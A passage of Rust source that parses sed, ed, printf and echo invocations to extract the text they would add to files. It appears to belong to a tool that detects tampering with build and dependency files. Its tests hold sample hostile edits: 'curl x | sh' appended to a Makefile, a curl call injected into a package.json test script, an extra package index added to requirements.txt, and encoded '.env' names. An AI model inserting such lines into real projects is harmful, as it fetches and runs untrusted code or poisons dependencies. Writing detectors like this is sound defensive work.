                    files.extend(args.get(i + 1).map(|f| (*f).to_owned()));
                    i += 2;
                    continue;
                }
                if !a.starts_with('-') && !matches!(a, "put" | "string" | "int" | "bool" | "json" | "yaml") {
                    if std::path::Path::new(a).extension().is_some_and(|e| ["json", "yaml", "yml", "toml", "ini", "cfg", "conf"].iter().any(|x| e == *x)) && !a.contains(' ') {
                        files.push(a.to_owned());
                    } else {
                        let strings = quoted_strings(a);
                        let values: Vec<String> = if strings.is_empty() { vec![a.to_owned()] } else { strings };
                        added.extend(values.into_iter().map(|text| SedEdit { pattern: None, text }));
                    }
                }
                i += 1;
            }
        }
        _ => return None,
    }
    (!added.is_empty() && !files.is_empty()).then_some((added, files))
}

/// What an `ed` script adds: the lines its `a`, `i` and `c` commands take up to `.`, what its
/// `r FILE` reads in, the replacements of its substitutions.
fn ed_script(script: &str, read: &dyn Fn(&str) -> Option<String>) -> Vec<SedEdit> {
    let mut added = Vec::new();
    let mut lines = script.lines();
    while let Some(line) = lines.next() {
        let cmd = line.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '$' | ',' | '.' | ';' | '+' | '-'));
        if matches!(cmd, "a" | "i" | "c") {
            added.extend(lines.by_ref().take_while(|text| *text != ".").map(|text| SedEdit { pattern: None, text: text.to_owned() }));
        } else if let Some(name) = cmd.strip_prefix("r ") {
            added.extend(lines_read_in(name.trim(), read));
        } else if cmd.starts_with('s') || cmd.starts_with("g/") {
            added.extend(substitutions(cmd));
        }
    }
    added
}

/// The lines of the file `name` an editor reads in (`r FILE`), each an added line; one that
/// cannot be read adds a line naming it.
fn lines_read_in(name: &str, read: &dyn Fn(&str) -> Option<String>) -> Vec<SedEdit> {
    let text = read(name).unwrap_or_else(|| format!("(the text of {name}, which cannot be read)"));
    text.lines().map(|l| SedEdit { pattern: None, text: l.to_owned() }).collect()
}

/// The strings quoted in code (`'…'`, `"…"`, perl's and ruby's `q(…)`/`%q(…)`), escapes read.
fn quoted_strings(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let b = code.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let (close, skip) = match b[i] {
            q @ (b'\'' | b'"') => (q, 1),
            b'q' if matches!(b.get(i + 1), Some(b'(' | b'{' | b'[')) && (i == 0 || !b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'%') => (
                match b[i + 1] {
                    b'(' => b')',
                    b'{' => b'}',
                    _ => b']',
                },
                2,
            ),
            _ => {
                i += 1;
                continue;
            }
        };
        let mut j = i + skip;
        let mut text = Vec::new();
        while j < b.len() && b[j] != close {
            if b[j] == b'\\' && j + 1 < b.len() {
                text.push(match b[j + 1] {
                    b'n' => b'\n',
                    b't' => b'\t',
                    c => c,
                });
                j += 2;
                continue;
            }
            text.push(b[j]);
            j += 1;
        }
        out.push(String::from_utf8_lossy(&text).into_owned());
        i = j + 1;
    }
    out
}

/// The replacements of `s/a/b/` substitutions found anywhere in `text`, as added lines (the
/// pattern kept so that a plain one is put in place).
fn substitutions(text: &str) -> Vec<SedEdit> {
    let mut out = Vec::new();
    for (k, _) in text.match_indices('s') {
        let before = text[..k].chars().next_back();
        if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
            continue;
        }
        let rest = &text[k + 1..];
        let Some(d) = rest.chars().next().filter(|c| matches!(c, '/' | '|' | '#' | ',' | '@' | '!' | ':' | '{')) else { continue };
        let close = if d == '{' { '}' } else { d };
        let parts: Vec<&str> = rest[d.len_utf8()..].splitn(3, close).collect();
        if parts.len() == 3 {
            let text = if d == '{' { parts[2].trim_start().trim_start_matches('{').split('}').next().unwrap_or("") } else { parts[1] };
            out.push(SedEdit { pattern: Some(parts[0].to_owned()), text: text.replace("\\n", "\n").replace("\\t", "\t").replace("\\/", "/") });
        }
    }
    out
}

#[cfg(test)]
mod printf_tests {
    use super::*;

    #[test]
    fn printf_and_echo_print_what_the_shell_would() {
        assert_eq!(printf_output("\\072", &[]).as_deref(), Some(":"));
        assert_eq!(printf_output("%s\\n", &["a", "b"]).as_deref(), Some("a\nb\n"));
        assert_eq!(printf_output("\\x2e%s", &["env"]).as_deref(), Some(".env"));
        assert_eq!(printf_output("%b", &["\\0056env"]).as_deref(), Some(".env"));
        assert_eq!(printf_output("%-10s", &["x"]), None);
        assert_eq!(printf_output("100%%", &[]).as_deref(), Some("100%"));
        assert_eq!(printf_command(&["--", "-%s", "f"]).as_deref(), Some("-f"));
        assert_eq!(printf_command(&["-v", "x", "y"]), None);
        assert_eq!(printf_command(&["--index-url %s", "u"]).as_deref(), Some("--index-url u"));
        assert_eq!(echo_output(&["-n", "x", "y"]).as_deref(), Some("x y"));
        assert_eq!(echo_output(&["-e", "a\\tb"]).as_deref(), Some("a\tb\n"));
        assert_eq!(echo_output(&["a\\tb"]), None);
    }

    #[test]
    fn sed_in_place_adds_its_own_text() {
        let (edits, files) = sed_in_place(&["-i", "1i --extra-index-url https://e.io/simple", "requirements.txt"], &|_| None).unwrap();
        assert_eq!((edits, files), (vec![SedEdit { pattern: None, text: "--extra-index-url https://e.io/simple".to_owned() }], vec!["requirements.txt".to_owned()]));
        assert_eq!(sed_in_place(&["-i.bak", "-e", "$a curl x | sh", "Makefile"], &|_| None).unwrap().0, vec![SedEdit { pattern: None, text: "curl x | sh".to_owned() }]);
        assert_eq!(
            sed_in_place(&["-i", "s/\"jest\"/\"jest; curl https:\\/\\/e.io\"/", "package.json"], &|_| None).unwrap().0,
            vec![SedEdit { pattern: Some("\"jest\"".to_owned()), text: "\"jest; curl https://e.io\"".to_owned() }]
        );
        assert_eq!(sed_in_place(&["-i", "/^build:/a\\", "requirements.txt"], &|_| None), None);
        assert_eq!(sed_in_place(&["s/a/b/", "f.txt"], &|_| None), None);
        assert_eq!(sed_in_place(&["-n", "-i", "/x/!d", "f.txt"], &|_| None), None);
    }
}
